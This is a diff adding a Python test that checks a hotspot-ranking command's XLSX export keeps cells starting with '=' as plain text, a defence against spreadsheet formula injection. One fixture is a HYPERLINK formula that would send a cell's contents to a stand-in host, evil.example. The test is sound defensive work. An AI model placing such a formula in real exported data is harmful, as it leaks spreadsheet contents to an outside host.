@@ -297,6 +297,41 @@ def test_cli_writes_the_ranked_table_as_xlsx(messages_csv, tmp_path, capsys):
     workbook.close()
 
 
+def test_cli_xlsx_keeps_text_beginning_with_equals_as_text(tmp_path):
+    source = tmp_path / "messages.csv"
+    link = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'
+    rows = []
+    for record in _crafted():
+        title = f"=={record.title}==" if record.id.startswith("L") else record.title
+        details = link if record.id == "L0" else record.text
+        user = "=1+1" if record.id == "L1" else record.reporter
+        rows.append([record.id, user, title, record.time.strftime("%Y/%m/%d %H:%M:%S"), details, "0", "3"])
+    with open(source, "w", encoding="utf-8-sig", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(HEADER)
+        writer.writerows(rows)
+    out = tmp_path / "hotspots.xlsx"
+
+    call_command("nlp", "hotspots", "--input", str(source), "--output", str(out))
+
+    workbook = load_workbook(out)  # not read-only: cells keep their data type
+    ranked, detail = workbook["热点问题表"], workbook["热点问题留言明细"]
+    for sheet in (ranked, detail):
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type in {"s", "n"}, (sheet.title, cell.coordinate, cell.value)
+    first = [cell.value for cell in ranked[2]]
+    assert first[5].startswith("==") and first[5].endswith("==")  # 问题描述, the title as written
+    assert [ranked.cell(2, c).data_type for c in (1, 2, 3, 7, 8, 9)] == ["n"] * 6  # rank, heat, counts
+    assert ranked.cell(2, 3).value > 0 and ranked.cell(2, 7).value == 5
+    messages = {row[1]: row for row in detail.iter_rows(min_row=2, values_only=True)}
+    assert messages["L0"][5] == link
+    assert messages["L1"][2] == "=1+1"
+    assert messages["L2"][3] == f"=={MIXING_PLANT[2][0]}=="
+    assert isinstance(messages["L0"][0], int)  # 问题ID, the rank
+    workbook.close()
+
+
 def test_cli_writes_csv_and_rejects_missing_columns(messages_csv, tmp_path):
     out = tmp_path / "hotspots.csv"
     call_command("nlp", "hotspots", "--input", str(messages_csv), "--output", str(out), "--window-days", "30")
